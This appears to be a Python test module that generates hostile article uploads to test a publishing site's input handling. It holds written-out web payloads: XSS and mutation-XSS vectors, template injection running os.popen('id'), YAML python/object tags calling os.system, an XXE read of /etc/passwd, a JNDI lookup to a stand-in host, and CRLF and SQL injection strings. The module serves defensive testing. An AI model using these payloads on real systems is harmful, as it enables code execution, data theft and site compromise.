"""Manuscripts nobody should send, of every class of threat to content.

C1 scripts in text, C2 HTML that changes when it is read twice, C3 breaking out of a title, attribute, feed or JSON, C4
templates in text, C5 paths, C6 look-alike letters, C7 YAML bombs, C8 giants, C12 foreign images and links, C13 log
forgery. The same every time: nothing here is drawn by lot.
"""

import functools
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

from tests.hostile.attacks import ATTACKS

MEGABYTE = 1024 * 1024
CUT = 55_000
"""Characters of a bomb small enough to be let through where nothing else speaks against it."""

KEY = "articles/en/hostile.md"


class Manuscript(NamedTuple):
    """An upload. The name begins with the class of its threat."""

    name: str
    key: str
    body: bytes


def hostile_manuscripts() -> Iterator[Manuscript]:
    """Each of them, made when it is asked for: together they weigh a hundred megabytes."""
    for name, recipe in RECIPES.items():
        yield Manuscript(name, *recipe())


Recipe = Callable[[], tuple[str, bytes]]

_FIELDS: Mapping[str, str] = {
    "headline": "A quiet night",
    "section": "international",
    "published": "2026-01-30T09:15:00Z",
}


def _quoted(text: str) -> str:
    """As a double-quoted YAML scalar, so that any character arrives."""
    escaped = "".join(
        letter if letter.isprintable() and letter not in '"\\' else f"\\U{ord(letter):08X}" for letter in text
    )
    return f'"{escaped}"'


def _article(body: str = "Text.\n", key: str = KEY, **fields: str) -> tuple[str, bytes]:
    """A manuscript that is right but for what is given; field values are YAML."""
    front_matter = "".join(f"{name}: {text}\n" for name, text in {**_FIELDS, **fields}.items())
    return key, f"---\n{front_matter}---\n{body}".encode()


def _raw(body: bytes, key: str = KEY) -> tuple[str, bytes]:
    return key, body


def _front_matter(text: str) -> tuple[str, bytes]:
    """Front matter as it stands, with what is needed behind it."""
    needed = "".join(f"{name}: {value}\n" for name, value in _FIELDS.items())
    return KEY, f"---\n{text}\n{needed}---\nText.\n".encode()


def _everywhere(text: str) -> tuple[str, bytes]:
    """The text in every field that readers see."""
    scalar = _quoted(text)
    return _article(
        body=f"{text}\n\n# {text}\n\n- {text}\n\n> {text}\n\n[{text}](https://e.example) ![{text}](media/a.jpg)\n",
        headline=scalar,
        slug="hostile",
        summary=scalar,
        dateline=scalar,
        byline=f"[{{name: {scalar}, slug: hostile}}]",
        tags=f"[{{name: {scalar}, slug: hostile}}]",
        photograph=f"{{src: media/a.jpg, alt: {scalar}, caption: {scalar}, credit: {scalar}}}",
        corrections=f"[{{date: 2026-01-31, text: {scalar}}}]",
        translation_key=scalar,
        agency=scalar,
    )


def _in_a_live_blog(text: str) -> tuple[str, bytes]:
    """The text above the entries, as the title of one, and in it."""
    return _article(f"{text}\n\n## 12:00 {text}\n\n{text}\n\n[^1]: {text}\n", form="live-blog")


_MUTATIONS = (
    "<marquee>a</p><p>b",
    "<a><table><a><td>x</a></table>",
    "<b><p><i></b>x</i></p>",
    "<p><table><p>x</table>",
    "<table><tr><td><table><tr></td></tr></table>x",
    "<ul><table><li>x</ul></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><desc><svg><p><style></svg><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<table><caption><svg><foreignObject><table><caption></table><img src=x onerror=alert(1)>",
    "<object><p></object></p><p>x",
    '{{< video id="<script>alert(1)</script>" >}}',
    '{{% embed "javascript:alert(1)" %}}',
    "[gallery ids='\"><script>alert(1)</script>']",
)

_BREAKOUTS = (
    "</title><script>alert(1)</script>",
    "</textarea></style></script><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "--><script>alert(1)</script><!--",
    "<!--<script>",
    "]]><script>alert(1)</script><![CDATA[",
    '"}</script><script>alert(1)</script>',
    '\\"},alert(1),{\\"',
    "\u2028alert(1)\u2029",
    "a\x00b\x08c\x1bd\x0be\x0cf",
    "\ufffe\uffff\ufdd0",
    "&lt;script&gt; &amp;amp; &#x3c;script&#x3e; & < > \" '",
    "=cmd|' /C calc'!A0",
    "%0d%0aSet-Cookie:%20a=b",
    "a\r\nLocation: https://e.example\r\n\r\n",
    "\\u003cscript\\u003e",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "javascript:alert(1)",
    "\ud7ff\ue000\U0010ffff\U0001f600",
)

_TEMPLATES = (
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment #}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context }}",
    "{% raw %}{{ x }}",
    "${7*7} #{7*7} <%= 7*7 %> ${{7*7}} @(7*7) [[7*7]]",
    "{{ lipsum.__globals__ }}{%- set x = 1 -%}",
    "%(password)s %s {0.__class__} $HOME `id` $(id)",
)

_SLUGS = (
    "../../../etc/passwd",
    "..",
    ".",
    "/",
    "/etc/passwd",
    "a/../../b",
    "..\\..\\windows",
    "%2e%2e%2f",
    "%252e%252e%252f",
    ".htaccess",
    ".well-known",
    "index.html",
    "index",
    "404",
    "feed",
    "sitemap",
    "api",
    "assets",
    "media",
    "en",
    "a b?c#d",
    "a\x00b",
    "a\nb",
    "con",
    "a" * 5000,
    "-" * 200,
    "\u202etxt.exe",
    "\u2025/\u2025/",
    "\uff0e\uff0e\uff0f",
    "\u2044etc\u2044passwd",
    "https://e.example",
    "LISTING#en#home",
)

_KEYS = (
    "articles/../../site.yaml",
    "articles//..//x.md",
    "articles/es/\u202egpj.md",
    "articles/es/a\nb.md",
    "articles/es/" + "a" * 900 + ".md",
    "articles/e\u0301s/nin\u0303o.md",
    "articles/es/<script>alert(1)</script>.md",
    "articles/es/{{7*7}}.md",
    "articles/es/'; DROP TABLE articles; --.md",
    "articles/es/%2e%2e/x.md",
    "articles/es/#LISTING.md",
    "articles/en/\x1b[31mred.md",
    "articles/en/.md",
    "articles/en/a.md/b.md",
)

_ALIASES = (
    "/../x",
    "//e.example",
    "/api/x",
    "/",
    "/en",
    "/a\\b",
    "https://e.example/",
    "/%2e%2e/",
    "/a?b=c",
    "/\u202e",
    "/" + "a" * 3000,
)

_LOOK_ALIKES = (
    "Кyiv sееs а quiеt night",
    "\uff2b\uff59\uff49\uff56 \uff53\uff45\uff45\uff53",
    "Ky\u200biv s\u200dees a qui\u2060et night",
    "K\u0443iv sees a quiet n\u0456ght",
    "Kyiv se\u0301es a quie\u0301t night",
    "𝐊𝐲𝐢𝐯 𝓼𝓮𝓮𝓼 𝕒 𝖖𝖚𝖎𝖊𝖙 𝚗𝚒𝚐𝚑𝚝",
    "K̵̡y̴͇i̶̱v̷͜ s̸̡e̵͙e̴̞s̶̟",
    "\u202ethgin teiuq\u202c",
    "\u2066Kyiv\u2069 sees",
    "ᴋʏɪᴠ ꜱᴇᴇꜱ",
    "Kyiv\u00a0sees\u3000a\u2003quiet\u2009night",
    "\U000e0041\U000e0042 tags",
    "e" + "\u0301" * 250,
    "Тихая ночь в Киеве",
    "כותרת",
    "🗞" * 100,
)

_BOMB = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + depth)}: &{chr(98 + depth)} [{', '.join([f'*{chr(97 + depth)}'] * 9)}]\n" for depth in range(9)
)

_YAML: Mapping[str, str] = {
    "billion laughs": _BOMB,
    "alias": "tags: &t [a]\nbyline: *t",
    "recursive alias": "tags: &t [*t]",
    "merge key": "base: &b {draft: true}\n<<: *b",
    "merge key without alias": "<<: {draft: true}",
    "python object": "tags: !!python/object/apply:os.system ['id']",
    "python name": "summary: !!python/name:os.system",
    "binary": "summary: !!binary aGVsbG8=",
    "own tag": "summary: !secret x",
    "tag directive": "%TAG ! tag:e.example,2000:\n---\nsummary: x",
    "set": "tags: !!set {a, b}",
    "the same key twice": "slug: a\nslug: b",
    "the same key by another name": "title: b",
    "the same key in another case": "HEADLINE: b",
    "a million digits": f"expires: {'9' * 15_000}",
    "octal and hexadecimal": "tags: [0o777, 0xFF, 0b1, 1e999, .inf, .nan, 1_000]",
    "sexagesimal": "tags: [190:20:30]",
    "norway": "language: no",
    "null headline": "summary: null\ndateline: ~",
    "one endless line": f"summary: {'a' * 15_000}",
    "an endless name": f"{'a' * 5_000}: b",
    "a thousand names": "\n".join(f"k{number}: v" for number in range(1_000)),
    "deep brackets": f"tags: {'[' * 8_000}",
    "deep closed brackets": f"tags: {'[' * 7_000}{']' * 7_000}",
    "deep braces": f"tags: {'{a: ' * 3_500}",
    "deep blocks": "\n".join(" " * depth + "a:" for depth in range(150)),
    "deep dashes": "tags:\n  " + "- " * 7_000 + "a",
    "deep question marks": "? " * 7_000,
    "complex key": "? [a, b]\n: c",
    "empty key": ": c",
    "list as document": "- a\n- b",
    "unclosed quote": 'summary: "open',
    "unclosed bracket": "tags: [a, b",
    "tab": "photograph:\n\tsrc: media/a.jpg",
    "reserved signs": "summary: @a\ndateline: `b`\ntranslation_key: %c",
    "document end": "summary: a\n...\nmore: b",
    "three documents": "---\na: b\n--- # two\nc: d",
    "remark only": "# nothing\n#" + "x" * 10_000,
    "colons": ":" * 15_000,
    "quotes": "'" * 15_000,
    "stars": "*" * 15_000,
    "ampersands": "&a " * 5_000,
    "pipes": "a: |\n" + "\n" * 15_000,
    "folds": "a: >\n" + " x\n\n" * 3_000,
    "escapes": 'summary: "\\x00\\u202E\\uD800\\U0010FFFF\\N\\_\\L\\P"',
    "wrong types": "tags: {a: {b: {c: d}}}\nbyline: [[a]]\nphotograph: [1]\naliases: {x: y}\nupdated: [x]",
    "commas": "tags: [" + "," * 10_000 + "]",
    "many tags": "tags: [" + ", ".join(f"t{number}" for number in range(3_000)) + "]",
    "commas in a string": "tags: '" + "," * 15_000 + "'",
}

_FILES: Mapping[str, bytes] = {
    "empty": b"",
    "blank": b" \r\n\t\n" * 1000,
    "byte order mark only": b"\xef\xbb\xbf",
    "zeros": bytes(MEGABYTE),
    "random bytes": bytes(range(256)) * 4096,
    "utf-16": "---\nheadline: a\n---\nText".encode("utf-16"),
    "utf-32": "---\nheadline: a\n---\nText".encode("utf-32"),
    "latin-1": "---\nheadline: Ñuñoa\n---\nText".encode("latin-1"),
    "utf-7": b"---\nheadline: +ADw-script+AD4-\n---\nText",
    "overlong utf-8": b"---\nheadline: \xc0\xbcscript\xc0\xbe\n---\nText",
    "surrogates": b"---\nheadline: \xed\xa0\x80\n---\nText",
    "cut in a letter": "---\nheadline: ñ".encode()[:-1],
    "zip": b"PK\x03\x04" + bytes(range(256)) * 10,
    "png": b"\x89PNG\r\n\x1a\n" + bytes(100),
    "html": b"<!DOCTYPE html><script>alert(1)</script>",
    "never closed": b"---\n" + b"a: b\n" * 200_000,
    "fences only": b"---\n" * 262_144,
    "front matter of a megabyte": b"---\na: " + b"x" * (MEGABYTE - 20) + b"\n---\n",
    "one byte too large": b"x" * (MEGABYTE + 1),
    "toml": b"+++\nheadline = 'a'\n+++\n",
    "json": b'{"headline": "a"}',
    "old line ends": b"---\rheadline: a\rsection: sports\rdate: 2026-01-01\r---\rText" + b"\r" * 1000,
}


def _filled(piece: str, times: int | None = None) -> str:
    """The piece over and over, as often as said or as a megabyte holds."""
    room = MEGABYTE - 200
    return piece * (room // len(piece.encode()) if times is None else times)


_GIANTS: Mapping[str, Callable[[], str]] = {
    "quotations": lambda: _filled(">"),
    "spaced quotations": lambda: _filled("> "),
    "growing quotations": lambda: "".join(">" * depth + " a\n" for depth in range(1_400)),
    "quotations up to the limit": lambda: _filled(">" * 20 + " a\n\n"),
    "brackets": lambda: _filled("["),
    "matched brackets": lambda: _filled("[", 500_000) + _filled("]", 500_000),
    "image brackets": lambda: _filled("!["),
    "nested images": lambda: _filled("![", 100_000) + _filled("](b)", 100_000),
    "stars": lambda: _filled("*a "),
    "stars and pairs": lambda: _filled("*a **b "),
    "closed stars": lambda: _filled("*a ", 200_000) + _filled("b*", 200_000),
    "triple stars": lambda: _filled("a***b"),
    "underscores": lambda: _filled("_"),
    "tildes": lambda: _filled("~~a "),
    "lists": lambda: _filled("- "),
    "ordered lists": lambda: _filled("1. "),
    "stepped lists": lambda: "".join("  " * depth + "- a\n" for depth in range(1_000)),
    "list of a megabyte": lambda: _filled("- a\n"),
    "backticks": lambda: _filled("`"),
    "growing backticks": lambda: "".join("`" * count + " " for count in range(1, 1_400)),
    "divs": lambda: _filled("<div>"),
    "bold tags": lambda: _filled("<b>"),
    "spans in a sentence": lambda: "a " + _filled("<span>"),
    "less-than signs": lambda: _filled("<"),
    "links in HTML": lambda: _filled("<a href=x>"),
    "adoption agency": lambda: _filled("<a><b><i><u>", 40_000) + _filled("</a></b>", 40_000),
    "formatting and paragraphs": lambda: "<b><i><u><s><a>" * 390 + _filled("\n\nx"),
    "tables in tables": lambda: _filled("<table><tr><td>"),
    "foster parents": lambda: _filled("<table>a"),
    "selects": lambda: _filled("<select>"),
    "templates": lambda: _filled("<template>"),
    "svg": lambda: _filled("<svg><p>"),
    "math": lambda: _filled("<math><mtext>"),
    "comments": lambda: _filled("<!--"),
    "instructions": lambda: _filled("<?"),
    "declarations": lambda: _filled("<!A "),
    "character data": lambda: _filled("<![CDATA["),
    "attributes": lambda: "<div " + _filled("a "),
    "different attributes": lambda: "<a " + " ".join(f"a{number}=1" for number in range(100_000)) + ">",
    "attributes in raw text": lambda: "<pre a\n\n" + _filled("b \n\n"),
    "attributes with signs": lambda: "<div " + _filled('a=">" '),
    "attributes of an end tag": lambda: "</div " + _filled("a "),
    "open attribute": lambda: _filled('<a href="'),
    "quotation marks": lambda: _filled('"'),
    "ampersands": lambda: _filled("&"),
    "entities": lambda: _filled("&nbsp;"),
    "numbers of characters": lambda: _filled("&#1114111;"),
    "pipes": lambda: _filled("|"),
    "wide table": lambda: "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + _filled("|x|\n", 100_000),
    "long table": lambda: "|a|b|\n|-|-|\n" + _filled("|x|\n"),
    "table rules": lambda: _filled("|-"),
    "footnote marks": lambda: _filled("[^1]", 250_000) + "\n\n[^1]: x",
    "footnotes in footnotes": lambda: "".join(f"[^{number}]: [^{number + 1}]\n\n" for number in range(50_000)),
    "footnote definitions": lambda: _filled("[^a]: "),
    "long footnote names": lambda: _filled(f"[^{'a' * 900}]") + f"\n\n[^{'a' * 900}]: x",
    "links": lambda: _filled("[a](b) "),
    "open links": lambda: _filled("[a]("),
    "open pointed links": lambda: _filled("[a](<"),
    "link parentheses": lambda: "[a](" + _filled("("),
    "references": lambda: _filled("[a]: x\n", 50_000) + _filled("[a] ", 100_000),
    "a long reference": lambda: "[a]: /" + "x" * 50_000 + "\n\n" + _filled("[a] ", 200_000),
    "different references": lambda: "".join(f"[{number}]: x\n" for number in range(60_000)),
    "addresses": lambda: _filled("http://a.b "),
    "www": lambda: _filled("www."),
    "at signs": lambda: _filled("a@"),
    "one endless mailbox": lambda: _filled("a") + "@",
    "mail addresses": lambda: _filled("a@b.c "),
    "dotted address": lambda: "http://" + _filled("a."),
    "address with parentheses": lambda: "http://a.b/" + _filled(")"),
    "underlined headings": lambda: _filled("a\n=\n"),
    "headings": lambda: _filled("# a\n"),
    "rules": lambda: _filled("***\n"),
    "line ends": lambda: _filled("\n"),
    "tabs": lambda: _filled("\t"),
    "spaces": lambda: _filled(" ") + "a",
    "backslashes": lambda: _filled("\\"),
    "hard breaks": lambda: _filled("a\\\n"),
    "paragraphs": lambda: _filled("a\n\n"),
    "photographs": lambda: _filled('![a](media/1.jpg "c | d")\n', 990),
    "pull quotes": lambda: _filled("> [!QUOTE]\n> a\n\n", 3_000),
    "boxes": lambda: _filled("> [!NOTE] a\n> b\n\n", 4_000),
    "open speakers": lambda: "<div>\n" + _filled("<p>—a", 1_900) + _filled("a", 900_000),
    "open facades": lambda: "<div>\n" + _filled('<p><a href="https://x">y', 900) + _filled("a", 900_000),
    "facades": lambda: _filled("https://youtu.be/dQw4w9WgXcQ\n\n", 990),
    "a cell of signs": lambda: "<table>\n<thead>\n<tr>\n<th>" + _filled("<", 50_000) + "</th>\n</tr>\n</table>",
    "a cell of numbers": lambda: "|a|\n|-|\n|" + _filled("1 ", 400_000) + "x|\n",
    "tables with captions": lambda: _filled("**a**\n\n|a|b|\n|-|-|\n|1|2|\n\n", 2_000),
    "one endless word": lambda: _filled("a"),
    "prose of a megabyte": lambda: _filled("palabra "),
    "combining marks": lambda: _filled("\u0301"),
    "letters to compose": lambda: _filled("e\u0301"),
    "hangul to compose": lambda: _filled("\u1112\u1161\u11ab"),
    "unseen characters": lambda: _filled("\u202e"),
    "marks in reverse order": lambda: _filled("a\u0315\u0300\u05ae\u0300"),
    "private letters": lambda: _filled("\ue000"),
    "no-break spaces": lambda: _filled("\u00a0"),
    "fences": lambda: _filled("```\n"),
    "indented code": lambda: _filled("    <\n"),
    "front matter again": lambda: _filled("---\na: b\n---\n"),
}


def _giant(make: Callable[[], str], longest: int | None = None) -> tuple[str, bytes]:
    return _article(body=make()[:longest])


_FOREIGN = (
    "![](https://e.example/pixel.gif)",
    "![a](http://e.example/pixel.gif)",
    "![a](//e.example/pixel.gif)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](/api/articles)",
    "![a](media/../../site.yaml)",
    "![a](media/a.svg)",
    '<img src="https://e.example/p.gif" width=1 height=1>',
    '<img src="/media/a.jpg" srcset="https://e.example/p.gif 2x">',
    '<picture><source srcset="https://e.example/p.avif"><img src=x></picture>',
    '<video src="https://e.example/v.mp4" autoplay></video>',
    '<link rel=prefetch href="https://e.example">',
    '<a href="https://e.example" ping="https://e.example/p" rel="sponsored" target="_blank">x</a>',
    "[a](https://user:secret@e.example)",
    "[la era](https://xn--lara-0na.example)",
    "[https://laera.example](https://e.example)",
    "https://laera.example@e.example",
    "[a](https://e.example/\u202ecod.exe)",
)

_FORGERIES = (
    "\x1b[2J\x1b[31mPUBLISHED",
    '\n{"level": "INFO", "outcome": "published"}\n',
    "\r\npublished https://e.example\r\n",
    "%s%s%s%n",
    "${jndi:ldap://e.example/a}",
    "\u2028\u2029{'outcome': 'published'}",
    "\x07\x08\x7f\x9b31m",
)


def _named(
    kind: str, texts: tuple[str, ...] | list[str], make: Callable[[str], tuple[str, bytes]]
) -> dict[str, Recipe]:
    return {f"{kind} {number:03}": functools.partial(make, text) for number, text in enumerate(texts)}


RECIPES: Mapping[str, Recipe] = {
    **_named("C1 body", ATTACKS, _article),
    **_named("C1 everywhere", ATTACKS[::6], _everywhere),
    **_named("C1 in a live blog", ATTACKS[3::6], _in_a_live_blog),
    **_named("C2 mutation", _MUTATIONS, _article),
    **_named("C3 everywhere", _BREAKOUTS, _everywhere),
    **_named("C3 in a live blog", _BREAKOUTS, _in_a_live_blog),
    **_named("C3 withdrawn", _BREAKOUTS[::3], lambda text: _article(withdrawn=_quoted(text))),
    **_named("C4 everywhere", _TEMPLATES, _everywhere),
    **_named("C5 slug", _SLUGS, lambda text: _article(slug=_quoted(text))),
    **_named("C5 headline", _SLUGS, lambda text: _article(headline=_quoted(text))),
    **_named("C5 section", _SLUGS[::4], lambda text: _article(section=_quoted(text))),
    **_named("C5 language", _SLUGS[::4], lambda text: _article(language=_quoted(text))),
    **_named(
        "C5 photograph", _SLUGS[::4], lambda text: _article(photograph=f"{{src: {_quoted('media/' + text)}, alt: a}}")
    ),
    **_named("C5 key", _KEYS, lambda key: _article(key=key)),
    **_named("C5 alias", _ALIASES, lambda text: _article(aliases=f"[{_quoted(text)}]")),
    **_named("C6 headline", _LOOK_ALIKES, lambda text: _article(headline=_quoted(text))),
    **_named("C6 names", _LOOK_ALIKES, lambda text: _article(byline=f"[{_quoted(text)}]", tags=f"[{_quoted(text)}]")),
    **{f"C7 {name}": functools.partial(_front_matter, text) for name, text in _YAML.items()},
    **{f"C8 {name}": functools.partial(_raw, file) for name, file in _FILES.items()},
    **{f"C8 {name}": functools.partial(_giant, make) for name, make in _GIANTS.items()},
    **{f"C8 {name}, cut": functools.partial(_giant, make, CUT) for name, make in _GIANTS.items()},
    **_named("C12 foreign", _FOREIGN, _article),
    **_named("C13 forgery", _FORGERIES, _everywhere),
    **_named("C13 unknown field", _FORGERIES, lambda text: _front_matter(f"{_quoted(text)}: x")),
}
